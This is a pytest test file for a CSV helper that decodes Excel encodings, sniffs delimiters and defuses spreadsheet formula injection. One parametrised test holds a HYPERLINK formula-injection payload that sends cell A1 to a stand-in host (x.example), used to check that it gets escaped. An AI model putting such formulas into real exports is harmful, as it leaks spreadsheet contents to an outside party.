"""One CSV helper (common/csvfiles.py): what Excel saves is read and named, anything else refused
in Italian; no cell of any CSV export can run as a formula."""

import csv
import io

import pytest

from common.csvfiles import (
    CsvDecodeError,
    SafeDictWriter,
    SafeWriter,
    read_csv_text,
    safe_cell,
    sniff_delimiter,
)

TEXT = "nome;comune\nCittà dei bambini;Cantù\n"


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        (TEXT.encode(), "UTF-8"),
        (b"\xef\xbb\xbf" + TEXT.encode(), "UTF-8 con BOM"),
        (TEXT.encode("cp1252"), "Windows-1252 (Excel)"),
        (TEXT.encode("utf-16"), "UTF-16"),
        (TEXT, "UTF-8"),
        ("\ufeff" + TEXT, "UTF-8"),
    ],
)
def test_excel_encodings_are_decoded_and_named(content: bytes | str, encoding: str) -> None:
    decoded = read_csv_text(content)
    assert decoded.text == TEXT
    assert decoded.encoding == encoding


def test_euro_sign_of_windows_1252_is_read() -> None:
    assert read_csv_text("costo\n5 €\n".encode("cp1252")).text == "costo\n5 €\n"


@pytest.mark.parametrize(
    "content",
    [b"nome\n\x81\x8d\x8f\x90\x9d\n", b"PK\x03\x04\x00\x00binary", b"\xef\xbb\xbfnome\n\xff\xfe\xfa\n"],
    ids=["undefined-in-1252", "nul-bytes", "bom-then-not-utf8"],
)
def test_what_is_not_a_text_csv_is_refused_in_italian(content: bytes) -> None:
    with pytest.raises(CsvDecodeError, match="Il file non è un CSV di testo leggibile"):
        read_csv_text(content)


@pytest.mark.parametrize(
    ("text", "delimiter"),
    [
        ("a;b;c\n1;2;3\n", ";"),
        ("a,b,c\n1,2,3\n", ","),
        ("a\tb\n1\t2\n", "\t"),
        ('nome;note\n"Rossi, Bianchi";x\n', ";"),
        ("istat_code;ambito\n", ";"),
    ],
)
def test_the_delimiter_is_sniffed(text: str, delimiter: str) -> None:
    assert sniff_delimiter(text) == delimiter


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    payload = f'{start}HYPERLINK("http://x.example/?"&A1;"clic")'
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Centro A", "", "'già protetto", 12, -3, 1.5, None])
def test_other_values_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writers_protect_every_cell_and_the_header() -> None:
    out = io.StringIO()
    SafeWriter(out, delimiter=";").writerows([["=1+1", "ok"], [-5, "@SUM(A1)"]])
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [["'=1+1", "ok"], ["-5", "'@SUM(A1)"]]
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["=nome", "n"])
    writer.writeheader()
    writer.writerow({"=nome": "+39 02 1234", "n": 3})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=nome", "n"], ["'+39 02 1234", "3"]]


def test_every_csv_writer_of_the_code_is_the_safe_one() -> None:
    """A new exporter cannot write CSV around the helper (grep, as the audit-writer check does)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        parts = path.relative_to(root).parts
        if parts[0] in {".venv", "node_modules", "tests", "static", "staticfiles"} or "migrations" in parts:
            continue
        text = path.read_text(encoding="utf-8")
        if path.name != "csvfiles.py" and ("csv.writer(" in text or "csv.DictWriter(" in text):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
